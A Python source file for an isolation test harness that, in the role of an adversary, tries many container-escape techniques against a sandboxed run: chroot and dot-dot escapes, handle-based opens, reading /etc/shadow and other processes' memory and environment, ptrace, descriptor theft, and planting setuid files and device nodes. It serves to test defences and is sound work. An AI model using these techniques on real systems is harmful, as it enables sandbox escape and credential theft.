"""Attempts to reach the host or the caller from inside a run, written by an adversary who knows what was planted.

Runs as the user's script: `repro-env exec probe.py [CATEGORY...]`. Standard library only, Python 3.8 or newer. Next to it
is `probe_hints.json` (see `host.py`): everything that an attacker could know or guess about the caller, except the
contents of the canaries. Writes `probe_results.json` in the current directory: for each attempt its name, category, status,
evidence and duration. Status:

    reached   something of the host, the caller or the kernel's administration answered
    sent      the call went through; only the host can tell whether anything arrived there
    refused   an error (its errno is the evidence), or the call did nothing
    absent    there is nothing of that kind here

Every attempt runs in a process of its own and ends after two seconds. One that succeeds does no harm: destructive calls are made
with arguments that fail after the permission check.
"""

from __future__ import annotations

import contextlib
import ctypes
import errno
import fcntl
import functools
import glob
import json
import mmap
import os
import platform
import resource
import select
import signal
import socket
import stat
import struct
import sys
import termios
import time
from typing import Any, Callable, Dict, Iterable, Iterator, List, Optional, Tuple

Call = Callable[[], Optional[str]]

with open(os.path.join(os.path.dirname(os.path.abspath(__file__)), "probe_hints.json")) as _file:
    HINTS: Dict[str, Any] = json.load(_file)
NONCE: str = HINTS["nonce_reversed"][::-1]  # not in any file that a run may read, so finding it proves a breach
SECRET = NONCE.encode()
CONTROL: bool = HINTS["control"]  # without a run: attempts that would disturb the machine are skipped
TIOCGSID = 0x5429  # Python has no name for it
LIMIT = 2  # seconds for each attempt
LIBC = ctypes.CDLL(None, use_errno=True)
NUMBERS: Dict[str, Dict[str, int]] = {
    "x86_64": {
        "acct": 163, "add_key": 248, "bpf": 321, "delete_module": 176, "finit_module": 313, "init_module": 175, "iopl": 172,
        "kcmp": 312, "kexec_load": 246, "keyctl": 250, "move_pages": 279, "name_to_handle_at": 303,
        "open_by_handle_at": 304, "perf_event_open": 298, "pivot_root": 155, "quotactl": 179, "reboot": 169,
        "request_key": 249, "syslog": 103, "userfaultfd": 323, "fanotify_init": 300, "lookup_dcookie": 212, "seccomp": 317,
        "get_robust_list": 274, "migrate_pages": 256,
    },
    "aarch64": {
        "acct": 89, "add_key": 217, "bpf": 280, "delete_module": 106, "finit_module": 273, "init_module": 105, "kcmp": 272,
        "kexec_load": 104, "keyctl": 219, "move_pages": 239, "name_to_handle_at": 264, "open_by_handle_at": 265,
        "perf_event_open": 241, "pivot_root": 41, "quotactl": 60, "reboot": 142, "request_key": 218, "syslog": 116,
        "userfaultfd": 282, "fanotify_init": 262, "seccomp": 277, "get_robust_list": 100, "migrate_pages": 238,
    },
}  # fmt: skip
SHARED = {
    "pidfd_send_signal": 424, "io_uring_setup": 425, "open_tree": 428, "move_mount": 429, "fsopen": 430, "fspick": 433,
    "pidfd_open": 434, "clone3": 435, "pidfd_getfd": 438, "process_madvise": 440, "mount_setattr": 442, "quotactl_fd": 443,
    "landlock_create_ruleset": 444,
}  # fmt: skip


class Absent(Exception):
    """The attempt cannot be made here; the message names what is missing."""


class Sent(Exception):
    """The call was accepted; only the host can see whether it had an effect there."""


class Attempt:
    def __init__(self, name: str, category: str, call: Call, disturbs: bool) -> None:
        self.name, self.category, self.call, self.disturbs = name, category, call, disturbs


ATTEMPTS: List[Attempt] = []


def add(name: str, category: str, call: Callable[..., Optional[str]], *words: Any, disturbs: bool = False) -> None:
    """Add an attempt: `call(*words)` returns evidence, or None. With `disturbs`, it is not made on the host itself."""
    assert all(attempt.name != name for attempt in ATTEMPTS), name
    ATTEMPTS.append(Attempt(name, category, lambda: call(*words), disturbs))


def attempt(category: str, disturbs: bool = False) -> Callable[[Call], Call]:
    def register(call: Call) -> Call:
        add(call.__name__, category, call, disturbs=disturbs)
        return call

    return register


# Building blocks of the attempts


def checked(result: int, what: str = "") -> int:
    """Call a function of libc. Raises `OSError` if it fails."""
    if result == -1:
        number = ctypes.get_errno()
        raise OSError(number, os.strerror(number), what or None)
    return result


def syscall(name: str, *words: Any) -> int:
    number = SHARED.get(name) or NUMBERS.get(platform.machine(), {}).get(name)
    if number is None:
        raise Absent(f"the number of {name} on {platform.machine()} is unknown")
    LIBC.syscall.restype = ctypes.c_long
    typed = [ctypes.c_long(word) if isinstance(word, int) else word for word in words]
    return int(checked(LIBC.syscall(ctypes.c_long(number), *typed), name))


def read(path: str, size: int = 1 << 16, dir_fd: Optional[int] = None) -> bytes:
    fd = os.open(path, os.O_RDONLY | os.O_NONBLOCK | os.O_CLOEXEC, dir_fd=dir_fd)
    try:
        return os.read(fd, size)
    finally:
        os.close(fd)


def opened(path: str, flags: int = os.O_RDONLY) -> str:
    """Evidence that a path can be opened. Nothing is read or written."""
    fd = os.open(path, flags | os.O_NONBLOCK | os.O_NOCTTY | os.O_CLOEXEC)
    os.close(fd)
    return f"{path} opens {'for writing' if flags & 3 else 'for reading'}"


def any_of(calls: Iterator[Call]) -> Optional[str]:
    """The first evidence of several ways; the first error if none succeeds."""
    error: Optional[OSError] = None
    for call in calls:
        try:
            found = call()
        except OSError as failed:
            error = error or failed
        else:
            if found:
                return found
    if error:
        raise error
    return None


def each(call: Callable[[Any], Optional[str]], words: Iterable[Any]) -> Optional[str]:
    """The first evidence that `call` returns for a word; the first error if none succeeds."""
    return any_of(functools.partial(call, word) for word in words)


def secret_in(data: bytes, where: str) -> Optional[str]:
    place = data.find(SECRET)
    return None if place < 0 else f"{where} holds {data[max(0, place - 16) : place + len(SECRET)]!r}"


def canaries() -> List[str]:
    return [path for _, path in sorted(HINTS["canaries"].items())]


def own_processes() -> List[int]:
    """This process and its parent, the probe. What they have proves nothing."""
    return [os.getpid(), os.getppid()]


def processes() -> List[int]:
    return sorted(int(name) for name in os.listdir("/proc") if name.isdigit() and int(name) not in own_processes())


def is_the_hosts(kind: str) -> bool:
    """Whether this process is in the host's namespace of that kind."""
    return bool(os.stat(f"/proc/self/ns/{kind}").st_ino == HINTS["namespaces"][kind])


def target() -> int:
    """The process to attack first: PID 1 of the run, or without a run the planted process."""
    return int(HINTS["victim"]) if CONTROL else 1


def descriptors(pid: Any) -> List[str]:
    return [f"/proc/{pid}/fd/{name}" for name in os.listdir(f"/proc/{pid}/fd")]


def below(base: str) -> Optional[str]:
    """A canary read below a directory that is or leads to a root of the host."""

    def by(path: str, up: str) -> Call:
        return lambda: secret_in(read(f"{base}/{up}{path.lstrip('/')}"), f"{base}/{up}{path.lstrip('/')}")

    return any_of(by(path, up) for up in ("", "../" * 40) for path in canaries())


def write_below(base: str, name: str) -> Optional[str]:
    """Leave files next to the canaries, which only the host sees."""

    def by(directory: str) -> Call:
        def write() -> Optional[str]:
            path = f"{base}/{'../' * 40}{directory.lstrip('/')}/probe-wrote-{name}-{NONCE[:8]}"
            os.close(os.open(path, os.O_WRONLY | os.O_CREAT, 0o600))
            return path

        return write

    directories = sorted({os.path.dirname(path) for path in canaries()})
    return any_of(by(directory) for directory in directories)


def host_root(fd: int) -> bool:
    """Evidence that a directory descriptor leads to the host's files by `..`."""
    for path in canaries():
        with contextlib.suppress(OSError):
            if SECRET in read("../" * 40 + path.lstrip("/"), dir_fd=fd):
                return True
    return False


# Files


def file_at(path: str) -> Optional[str]:
    return secret_in(read(path), path)


for _place, _path in sorted(HINTS["canaries"].items()):
    add(f"read_canary_in_{_place}", "files", file_at, _path)


@attempt("files")
def read_canary_by_dotdot_from_the_working_directory() -> Optional[str]:
    return below(os.getcwd())


@attempt("files")
def read_canary_by_a_symlink_in_the_working_directory() -> Optional[str]:
    def by(path: str) -> Call:
        def follow() -> Optional[str]:
            name = "probe-link"
            with contextlib.suppress(FileNotFoundError):
                os.unlink(name)
            os.symlink(path, name)
            try:
                return secret_in(read(name), name)
            finally:
                os.unlink(name)

        return follow

    return any_of(by(path) for path in canaries())


@attempt("files")
def read_canary_by_a_symlink_in_the_data() -> Optional[str]:
    return secret_in(read(HINTS["data"] + "/link-to-canary"), "link-to-canary")


@attempt("files")
def read_canary_by_a_relative_symlink_in_the_data() -> Optional[str]:
    return secret_in(read(HINTS["data"] + "/relative-link-to-canary"), "relative-link-to-canary")


@attempt("files")
def read_canary_by_dotdot_from_the_data() -> Optional[str]:
    return below(HINTS["data"])


@attempt("files")
def read_canary_by_dotdot_from_the_checkpoints() -> Optional[str]:
    return below(HINTS["checkpoints"])


@attempt("files")
def read_canary_by_dotdot_from_every_mount() -> Optional[str]:
    with open("/proc/self/mountinfo") as file:
        points = [line.split()[4] for line in file]
    return each(below, filter(os.path.isdir, points))


@attempt("files")
def read_canary_by_root_of_the_first_process() -> Optional[str]:
    return below(f"/proc/{target()}/root")


@attempt("files")
def read_canary_by_working_directory_of_the_first_process() -> Optional[str]:
    return below(f"/proc/{target()}/cwd")


@attempt("files")
def read_canary_by_root_of_every_process() -> Optional[str]:
    return each(lambda pid: below(f"/proc/{pid}/root"), processes()[-40:])


@attempt("files")
def read_canary_by_working_directory_of_every_process() -> Optional[str]:
    return each(lambda pid: below(f"/proc/{pid}/cwd"), processes()[-40:])


@attempt("files")
def read_canary_by_mapped_files_of_the_first_process() -> Optional[str]:
    directory = f"/proc/{target()}/map_files"
    return each(lambda name: below(f"{directory}/{name}/.."), os.listdir(directory)[:5])


@attempt("files")
def read_canary_by_chroot_and_dotdot() -> Optional[str]:
    os.makedirs("probe-chroot", exist_ok=True)
    up = os.open("/", os.O_RDONLY)
    os.chroot("probe-chroot")
    os.fchdir(up)
    for _ in range(60):
        os.chdir("..")
    os.chroot(".")
    return each(lambda path: secret_in(read(path), path), canaries())


def handle(path: str) -> "Tuple[int, Any]":
    """A descriptor of the mount, and the handle of `path` on its file system."""
    buffer = ctypes.create_string_buffer(struct.pack("Ii", 128, 0) + bytes(128), 136)
    mount = ctypes.c_int()
    fd = os.open(path, os.O_RDONLY)
    syscall("name_to_handle_at", -100, ctypes.c_char_p(path.encode()), buffer, ctypes.byref(mount), 0)
    return fd, buffer


def open_handle(fd: int, inode: int) -> int:
    """Open by inode number, generation 0, as file systems of the ext family take it."""
    buffer = ctypes.create_string_buffer(struct.pack("IiII", 8, 1, inode, 0), 136)
    return syscall("open_by_handle_at", fd, buffer, os.O_RDONLY)


@attempt("files")
def open_the_data_by_its_handle() -> Optional[str]:
    fd, buffer = handle(HINTS["data"])
    return f"descriptor {syscall('open_by_handle_at', fd, buffer, os.O_RDONLY)}"


@attempt("files")
def open_the_host_root_by_handle_from_the_data() -> Optional[str]:
    fd = open_handle(os.open(HINTS["data"], os.O_RDONLY), 2)
    return f"inode 2 is open: {os.listdir(fd)[:4]}"


@attempt("files")
def open_the_host_root_by_handle_from_the_notes() -> Optional[str]:
    directory = os.path.dirname(os.environ.get("REPRO_ENV_NOTES", ""))
    if not directory:
        raise Absent("no notes")
    fd = open_handle(os.open(directory, os.O_RDONLY), 2)
    return f"inode 2 is open: {os.listdir(fd)[:4]}"


@attempt("files")
def list_the_spec_directory() -> Optional[str]:
    found = os.listdir(HINTS["spec"])
    return f"{HINTS['spec']} holds {found[:3]}" if found else None


@attempt("files")
def list_the_runs_directory() -> Optional[str]:
    found = os.listdir(HINTS["runs"])
    return f"{HINTS['runs']} holds {found[:3]}" if found else None


@attempt("files")
def list_the_store() -> Optional[str]:
    found = os.listdir(HINTS["store"])
    return f"{HINTS['store']} holds {found[:3]}" if found else None


@attempt("files")
def list_the_directory_above_the_project() -> Optional[str]:
    found = [name for name in os.listdir(os.path.dirname(HINTS["project"])) if name in HINTS["beside_project"]]
    return f"{found}" if found else None


@attempt("files")
def read_an_ignored_file_of_the_project() -> Optional[str]:
    return file_at(HINTS["project"] + "/.git/secret-of-git")


@attempt("files")
def read_host_shadow_passwords() -> Optional[str]:
    with open("/etc/shadow", "rb") as file:
        lines = file.read().splitlines()
    found = [line for line in lines if len(line.split(b":")) > 1 and len(line.split(b":")[1]) > 4]
    return f"{len(found)} hashes" if found else None


@attempt("files")
def overlay_layers_by_their_descriptor_names() -> Optional[str]:
    """The kernel prints the layers of an overlay as /proc/self/fd/N; those numbers may still be open in the first process."""
    with open("/proc/self/mountinfo") as file:
        words = file.read().replace(",", " ").replace(":", " ").replace("=", " ").split()
    numbers = sorted({word.rsplit("/", 1)[1] for word in words if word.startswith("/proc/self/fd/")})
    if not numbers:
        raise Absent("no overlay names its layers by descriptors")
    return each(lambda n: below(f"/proc/1/fd/{n}"), numbers)


def readable_layers() -> Optional[str]:
    with open("/proc/self/mountinfo") as file:
        words = file.read().replace(",", " ").replace(":", " ").replace("=", " ").split()
    found = [word for word in words if word.startswith("/") and word.count("/") > 3 and os.path.isdir(word + "/..")]
    return each(below, found[:20])


add("read_canary_by_paths_named_in_mountinfo", "files", readable_layers)

# Writing to read-only paths


def write_data_file() -> Optional[str]:
    path = HINTS["data"] + f"/probe-wrote-{NONCE[:8]}"
    os.close(os.open(path, os.O_WRONLY | os.O_CREAT, 0o600))
    raise Sent(path)


DATA = HINTS["data"] + "/data.txt"


def append_data() -> Optional[str]:
    with open(DATA, "ab") as file:
        file.write(b"probe")
    raise Sent(DATA)


def reopen_data() -> Optional[str]:
    fd = os.open(DATA, os.O_RDONLY)
    os.write(os.open(f"/proc/self/fd/{fd}", os.O_RDWR | os.O_APPEND), b"probe")
    raise Sent(DATA)


def map_data() -> Optional[str]:
    fd = os.open(DATA, os.O_RDONLY)
    with mmap.mmap(fd, 0, mmap.MAP_SHARED, mmap.PROT_READ | mmap.PROT_WRITE) as memory:
        memory[0:1] = b"X"
    raise Sent(DATA)


def sent(what: str, *calls: Callable[[], Any]) -> Optional[str]:
    for call in calls:
        call()
    raise Sent(what)


def link_data() -> Optional[str]:
    os.link(DATA, HINTS["checkpoints"] + "/probe-hard-link")
    with open(HINTS["checkpoints"] + "/probe-hard-link", "ab") as file:
        file.write(b"probe")
    raise Sent(DATA)


def remount_data() -> Optional[str]:
    remount = 32 | 4096  # MS_REMOUNT, MS_BIND
    checked(LIBC.mount(None, HINTS["data"].encode(), None, remount, None))
    return append_data()


def set_immutable(path: str) -> Optional[str]:
    fd = os.open(path, os.O_RDONLY)
    flags = struct.pack("l", 0x10)  # FS_IMMUTABLE_FL
    fcntl.ioctl(fd, 0x40086602, flags)
    fcntl.ioctl(fd, 0x40086602, struct.pack("l", 0))  # undone, so that the host can remove the file
    return f"{path} was immutable"


add("data_create_a_file", "writes", write_data_file)
add("data_append", "writes", append_data)
add("data_reopen_for_writing_by_proc", "writes", reopen_data)
add("data_map_shared_for_writing", "writes", map_data)
add("data_change_mode", "writes", lambda: sent(DATA, lambda: os.chmod(DATA, 0o777)))
add("data_change_owner", "writes", lambda: sent(DATA, lambda: os.chown(DATA, 12345, 12345)))
add("data_change_times", "writes", lambda: sent(DATA, lambda: os.utime(DATA, (1, 1))))
add("data_set_attribute", "writes", lambda: sent(DATA, lambda: os.setxattr(DATA, "user.probe", b"x")))
add("data_rename", "writes", lambda: sent(DATA, lambda: os.rename(DATA, DATA + ".moved")))
add("data_truncate", "writes", lambda: sent(DATA, lambda: os.truncate(DATA, 3)))
add("data_delete", "writes", lambda: sent(DATA, lambda: os.unlink(HINTS["data"] + "/delete-me.txt")))
add("data_write_through_a_hard_link", "writes", link_data)
add("data_remount_writable", "writes", remount_data)
add("data_make_immutable", "writes", set_immutable, DATA)
add("checkpoints_make_immutable", "writes", set_immutable, HINTS["checkpoints"])


def write_everywhere(bases: List[str], name: str) -> Optional[str]:
    """Try all bases, because some may lead into the run's own tree and others out of it."""
    error: Optional[OSError] = None
    done = []
    for base in bases:
        try:
            done.append(write_below(base, name))
        except OSError as failed:
            error = error or failed
    if done:
        raise Sent(f"{done}")
    if error:
        raise error
    return None


@attempt("writes")
def write_by_root_of_the_first_process() -> Optional[str]:
    return write_everywhere([f"/proc/{target()}/root"], "root")


@attempt("writes")
def write_by_descriptors_of_the_first_process() -> Optional[str]:
    return write_everywhere(descriptors(target()), "fd1")


@attempt("writes")
def write_by_inherited_descriptors() -> Optional[str]:
    return write_everywhere([f"/proc/self/fd/{fd}" for fd in inherited()], "own")


def mark(path: str) -> Optional[str]:
    """Append a line to a file that other runs and the host use. The host checks whether it arrived."""
    with open(path, "ab") as file:
        file.write(f"# probe-wrote-{NONCE[:8]}\n".encode())
    raise Sent(path)


@attempt("writes", disturbs=True)
def change_the_environment_in_the_store() -> Optional[str]:
    return mark(os.path.join(HINTS["environment"], "pyvenv.cfg"))


@attempt("writes", disturbs=True)
def change_the_interpreter_in_the_store() -> Optional[str]:
    return mark(os.__file__)


@attempt("writes", disturbs=True)
def change_the_running_program() -> Optional[str]:
    return sent("/proc/self/exe", lambda: os.open("/proc/self/exe", os.O_WRONLY))


@attempt("writes", disturbs=True)
def change_code_of_repro_env() -> Optional[str]:
    directories = sorted({path for path in sys.path if path.startswith("/.repro-env")})
    if not directories:
        raise Absent("no code of repro-env on sys.path")
    return sent(directories[0], lambda: os.close(os.open(f"{directories[0]}/probe-wrote-{NONCE[:8]}", os.O_WRONLY | os.O_CREAT)))


@attempt("writes", disturbs=True)
def change_a_file_of_the_source() -> Optional[str]:
    return mark("source.txt")


# Files that stay on the host after the run


def set_user_id(path: str) -> Optional[str]:
    with open(path, "wb") as file:
        file.write(b"#!/bin/sh\n")
    os.chmod(path, 0o6755)
    raise Sent(path)


def file_capability(path: str) -> Optional[str]:
    with open(path, "wb") as file:
        file.write(b"#!/bin/sh\n")
    os.setxattr(path, "security.capability", struct.pack("<5I", 0x02000001, 1 << 21, 0, 0, 0))
    raise Sent(path)


def special(directory: str, kind: int, major: int, minor: int) -> Optional[str]:
    """Make a device node. Returns evidence if it can be opened. Otherwise the host checks whether the node exists."""
    path = f"{directory}/probe-device-{kind}-{major}-{minor}"
    os.mknod(path, kind | 0o600, os.makedev(major, minor))
    try:
        return opened(path)
    except OSError as failed:
        raise Sent(f"{path} was made, and opening it fails: {failed}") from failed


def foreign_owner(path: str) -> Optional[str]:
    with open(path, "wb"):
        pass
    os.chown(path, 12345, 12345)
    raise Sent(path)


def leave_link(path: str) -> Optional[str]:
    os.symlink(canaries()[0], path)
    raise Sent(path)


def leave_pipe(path: str) -> Optional[str]:
    os.mkfifo(path)
    raise Sent(path)


def leave_root_owned(path: str) -> Optional[str]:
    with open(path, "wb"):
        pass
    os.chown(path, 0, 0)
    raise Sent(path)


for _place, _directory in (("checkpoints", HINTS["checkpoints"]), ("outputs", ".")):
    add(f"leave_a_setuid_program_in_{_place}", "left", set_user_id, f"{_directory}/probe-setuid")
    add(f"leave_a_file_capability_in_{_place}", "left", file_capability, f"{_directory}/probe-capability")
    add(f"leave_a_file_of_another_user_in_{_place}", "left", foreign_owner, f"{_directory}/probe-foreign")
    add(f"leave_a_file_of_root_in_{_place}", "left", leave_root_owned, f"{_directory}/probe-root-owned")
    add(f"leave_a_block_device_in_{_place}", "left", special, _directory, stat.S_IFBLK, *HINTS["disk"])
    add(f"leave_a_symlink_to_a_host_file_in_{_place}", "left", leave_link, f"{_directory}/probe-symlink")
    add(f"leave_a_named_pipe_in_{_place}", "left", leave_pipe, f"{_directory}/probe-pipe")

# Descriptors


def inherited() -> List[int]:
    """Open descriptors that are neither standard ones nor made by the probe."""
    return [fd for fd in HINTS["_own_descriptors"] if fd > 2]


@attempt("descriptors")
def inherited_descriptors() -> Optional[str]:
    found = [f"{fd} -> {os.readlink(f'/proc/self/fd/{fd}')}" for fd in inherited()]
    return ", ".join(found) or None


@attempt("descriptors")
def read_secret_by_inherited_descriptors() -> Optional[str]:
    return each(lambda fd: secret_in(os.pread(fd, 4096, 0), f"descriptor {fd}"), inherited())


@attempt("descriptors")
def host_root_by_inherited_descriptors() -> Optional[str]:
    return next((f"descriptor {fd}" for fd in inherited() if host_root(fd)), None)


@attempt("descriptors")
def inherited_socket() -> Optional[str]:
    return next((f"descriptor {fd}" for fd in inherited() if stat.S_ISSOCK(os.fstat(fd).st_mode)), None)


def pidfd(pid: int) -> int:
    return syscall("pidfd_open", pid, 0)


@attempt("descriptors")
def list_descriptors_of_the_first_process() -> Optional[str]:
    """The probe has the standard descriptors too, so only others count."""
    links = {path: os.readlink(path) for path in descriptors(target())}
    found = [f"{path} -> {link}" for path, link in links.items() if int(path.rsplit("/", 1)[1]) > 2 and link != "/dev/null"]
    return ", ".join(sorted(found)) or None


@attempt("descriptors")
def read_canary_by_descriptors_of_the_first_process() -> Optional[str]:
    return each(below, descriptors(target()))


@attempt("descriptors")
def read_canary_by_descriptors_of_every_process() -> Optional[str]:
    return each(lambda pid: each(below, descriptors(pid)), processes()[-40:])


@attempt("descriptors")
def read_secret_in_files_open_in_the_first_process() -> Optional[str]:
    return each(lambda path: secret_in(read(path, 1 << 20), path), descriptors(target()))


@attempt("descriptors")
def copy_a_descriptor_of_the_first_process() -> Optional[str]:
    fd = syscall("pidfd_getfd", pidfd(target()), 0, 0)
    return f"descriptor 0 of process {target()} is {os.readlink(f'/proc/self/fd/{fd}')}"


@attempt("descriptors")
def copy_descriptors_of_every_process() -> Optional[str]:
    return each(lambda pid: f"process {pid}: {syscall('pidfd_getfd', pidfd(pid), 1, 0)}", processes()[-40:])


@attempt("descriptors")
def compare_with_the_first_process() -> Optional[str]:
    return f"kcmp gives {syscall('kcmp', os.getpid(), target(), 2, 0, 0)}"


def stdio(fd: int) -> Optional[str]:
    """Evidence that a standard descriptor is a file of the host, which can be reopened with more rights."""
    there = os.fstat(fd)
    if [there.st_dev, there.st_ino] not in HINTS["stdio"]:
        return None
    return f"descriptor {fd} is the caller's own {os.readlink(f'/proc/self/fd/{fd}')}"


for _fd, _name in enumerate(("stdin", "stdout", "stderr")):
    add(f"{_name}_is_a_file_or_terminal_of_the_caller", "descriptors", stdio, _fd)


@attempt("descriptors")
def overwrite_what_stdin_reads() -> Optional[str]:
    """With `exec ... < file` the file is open for reading, and can be opened for writing through /proc."""
    if not stat.S_ISREG(os.fstat(0).st_mode):
        raise Absent("stdin is no file")
    fd = os.open("/proc/self/fd/0", os.O_WRONLY)
    os.pwrite(fd, b"probe", 0)
    raise Sent("wrote to the file that is stdin")


@attempt("descriptors")
def read_what_stderr_held_before() -> Optional[str]:
    if not stat.S_ISREG(os.fstat(2).st_mode):
        raise Absent("stderr is no file")
    return secret_in(read("/proc/self/fd/2"), "the file that is stderr")


@attempt("descriptors")
def overwrite_what_stderr_held_before() -> Optional[str]:
    if not stat.S_ISREG(os.fstat(2).st_mode):
        raise Absent("stderr is no file")
    fcntl.fcntl(2, fcntl.F_SETFL, fcntl.fcntl(2, fcntl.F_GETFL) & ~os.O_APPEND)
    try:
        os.pwrite(2, b"probe", 0)
    finally:
        fcntl.fcntl(2, fcntl.F_SETFL, fcntl.fcntl(2, fcntl.F_GETFL) | os.O_APPEND)
    raise Sent("wrote at the start of the file that is stderr")


@attempt("descriptors")
def change_flags_of_the_callers_descriptor() -> Optional[str]:
    """The caller shares the flags of an open file: with O_NONBLOCK, the caller's own reads fail."""
    before = fcntl.fcntl(0, fcntl.F_GETFL)
    fcntl.fcntl(0, fcntl.F_SETFL, before | os.O_NONBLOCK)
    raise Sent("stdin is non-blocking")


@attempt("descriptors")
def receive_a_descriptor_from_a_socket_of_the_data() -> Optional[str]:
    with socket.socket(socket.AF_UNIX) as near:
        near.settimeout(0.5)
        near.connect(HINTS["data"] + "/socket")
        near.sendall(b"descriptor")
        _, found, _, _ = near.recvmsg(64, socket.CMSG_SPACE(4))
        if not found:
            return None
        fd = struct.unpack("i", found[0][2][:4])[0]
        return f"the host passed {os.readlink(f'/proc/self/fd/{fd}')}: {host_root(fd)}"


# Environment, arguments, memory


def content(name: str, pid: Callable[[], int]) -> Optional[str]:
    path = f"/proc/{pid()}/{name}"
    return secret_in(read(path, 1 << 20), path)


add("environment_of_the_first_process", "environment", content, "environ", target)
add("arguments_of_the_first_process", "environment", content, "cmdline", target)


@attempt("environment")
def environment_of_every_process() -> Optional[str]:
    return each(lambda pid: content("environ", lambda: pid), processes())


@attempt("environment")
def arguments_of_every_process() -> Optional[str]:
    return each(lambda pid: content("cmdline", lambda: pid), processes())


@attempt("environment")
def secret_in_the_own_environment() -> Optional[str]:
    return secret_in(repr(sorted(os.environ.items())).encode(), "the environment")


@attempt("environment")
def secret_in_the_own_stack() -> Optional[str]:
    """Changing os.environ does not erase the variables with which the program was executed."""
    return secret_in(read("/proc/self/environ", 1 << 20), "/proc/self/environ")


def maps(pid: int) -> List[Tuple[int, int, str]]:
    found = []
    with open(f"/proc/{pid}/maps") as file:
        for line in file:
            words = line.split()
            start, end = (int(word, 16) for word in words[0].split("-"))
            if words[1].startswith("rw"):
                found.append((start, end, words[-1]))
    return found


def scan(pid: int) -> Optional[str]:
    with open(f"/proc/{pid}/mem", "rb", buffering=0) as memory:
        for start, end, name in sorted(maps(pid), key=lambda area: area[1] - area[0]):
            with contextlib.suppress(OSError, ValueError, OverflowError):
                memory.seek(start)
                found = secret_in(memory.read(min(end - start, 32 << 20)), f"memory of process {pid} ({name})")
                if found:
                    return found
    return None


@attempt("memory")
def secret_in_memory_of_the_first_process() -> Optional[str]:
    return scan(target())


@attempt("memory")
def secret_in_memory_of_every_process() -> Optional[str]:
    return each(scan, [target()] if CONTROL else processes())


@attempt("memory")
def open_memory_of_the_first_process_for_writing() -> Optional[str]:
    return opened(f"/proc/{target()}/mem", os.O_RDWR)


def vm(name: str, pid: int) -> Optional[str]:
    """EFAULT means that access is permitted, but the address is not mapped."""
    buffer = ctypes.create_string_buffer(8)
    local = (ctypes.c_void_p * 2)(ctypes.addressof(buffer), 8)
    remote = (ctypes.c_void_p * 2)(16, 8)
    try:
        call = getattr(LIBC, name)
        checked(call(pid, local, ctypes.c_ulong(1), remote, ctypes.c_ulong(1), ctypes.c_ulong(0)))
    except OSError as failed:
        if failed.errno != errno.EFAULT:
            raise
    return f"{name} of process {pid} is permitted"


add("process_vm_readv_of_the_first_process", "memory", lambda: vm("process_vm_readv", target()))
add("process_vm_writev_of_the_first_process", "memory", lambda: vm("process_vm_writev", target()))
for _name in ("maps", "smaps", "auxv", "stack", "syscall", "personality", "io", "pagemap", "fdinfo/0", "patch_state"):
    add(
        f"first_process_{_name.replace('/', '_')}",
        "processes",
        lambda name=_name: f"{len(read(f'/proc/{target()}/{name}'))} bytes" if read(f"/proc/{target()}/{name}") else None,
    )
for _name in ("exe", "cwd", "root"):
    add(f"first_process_{_name}_link", "processes", lambda name=_name: os.readlink(f"/proc/{target()}/{name}"))


@attempt("processes")
def program_of_the_first_process() -> Optional[str]:
    """If the write reaches the program, the next run or the host would execute it."""
    return opened(f"/proc/{target()}/exe", os.O_RDONLY)


@attempt("processes")
def clear_page_references_of_the_first_process() -> Optional[str]:
    return opened(f"/proc/{target()}/clear_refs", os.O_WRONLY)


@attempt("processes")
def lower_out_of_memory_score_of_the_first_process() -> Optional[str]:
    with open(f"/proc/{target()}/oom_score_adj") as file:
        before = file.read()
    with open(f"/proc/{target()}/oom_score_adj", "w") as file:
        file.write(before)
    return "oom_score_adj can be written"


@attempt("processes")
def see_processes_of_the_host() -> Optional[str]:
    with open(f"/proc/{HINTS['victim']}/cmdline", "rb") as file:
        return "the planted process is visible" if b"isolation-victim" in file.read() else None


@attempt("processes")
def find_processes_that_are_not_of_the_run() -> Optional[str]:
    """There are more processes than PID 1, its helpers and the probe."""
    found = {}
    for pid in processes():
        with contextlib.suppress(OSError):
            found[pid] = read(f"/proc/{pid}/cmdline")[:60]
    return f"{len(found)} processes: {sorted(found.items())[:5]}" if len(found) > 3 else None


@attempt("processes")
def pin_the_first_process_to_a_processor() -> Optional[str]:
    mask = os.sched_getaffinity(target())
    os.sched_setaffinity(target(), mask)
    return f"affinity of process {target()} can be set"


@attempt("processes")
def change_limits_of_the_first_process() -> Optional[str]:
    pair = (ctypes.c_uint64 * 2)()
    checked(LIBC.prlimit(target(), resource.RLIMIT_CORE, None, pair))
    checked(LIBC.prlimit(target(), resource.RLIMIT_CORE, pair, None))
    return f"limits of process {target()} can be set"


@attempt("processes")
def move_pages_of_the_first_process() -> Optional[str]:
    syscall("move_pages", target(), 0, None, None, None, 0)
    return "move_pages is permitted"


@attempt("processes")
def robust_list_of_the_first_process() -> Optional[str]:
    head, size = ctypes.c_void_p(), ctypes.c_size_t()
    syscall("get_robust_list", target(), ctypes.byref(head), ctypes.byref(size))
    return f"an address of its memory: {head.value}"


# Tracing

SEIZE, ATTACH, DETACH = 0x4206, 16, 17


def trace(request: int, pid: int) -> Optional[str]:
    LIBC.ptrace.restype = ctypes.c_long
    LIBC.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
    checked(LIBC.ptrace(request, pid, None, None))
    if request == ATTACH:
        with contextlib.suppress(OSError):
            os.waitpid(pid, 0x40000000)
        LIBC.ptrace(DETACH, pid, None, None)
    return f"process {pid} can be traced"


add("trace_the_first_process", "ptrace", lambda: trace(SEIZE, target()))
add("trace_the_first_process_and_stop_it", "ptrace", lambda: trace(ATTACH, target()))
add(
    "trace_every_process",
    "ptrace",
    lambda: each(lambda pid: trace(SEIZE, pid), [target()] if CONTROL else processes()),
)
add("trace_the_parent_of_the_probe", "ptrace", lambda: trace(SEIZE, HINTS["_parent"]))

# Signals

IGNORED = signal.SIGURG  # ignored unless a program asks for it


@attempt("signals")
def signal_the_planted_process_by_its_number() -> Optional[str]:
    os.kill(HINTS["victim"], signal.SIGUSR1)
    raise Sent("SIGUSR1")


@attempt("signals")
def signal_the_process_group() -> Optional[str]:
    """A process group may have members outside the PID namespace."""
    os.kill(0, IGNORED)
    raise Sent("SIGURG to the process group")


@attempt("signals", disturbs=True)
def signal_every_process() -> Optional[str]:
    os.kill(-1, signal.SIGCONT)
    raise Sent("SIGCONT to every process")


@attempt("signals")
def signal_the_group_of_the_caller_by_its_number() -> Optional[str]:
    os.kill(-HINTS["group"], signal.SIGUSR2)
    raise Sent("SIGUSR2")


@attempt("signals")
def signal_the_owner_of_a_descriptor() -> Optional[str]:
    """The kernel sends SIGIO to a process group that was set as the owner."""
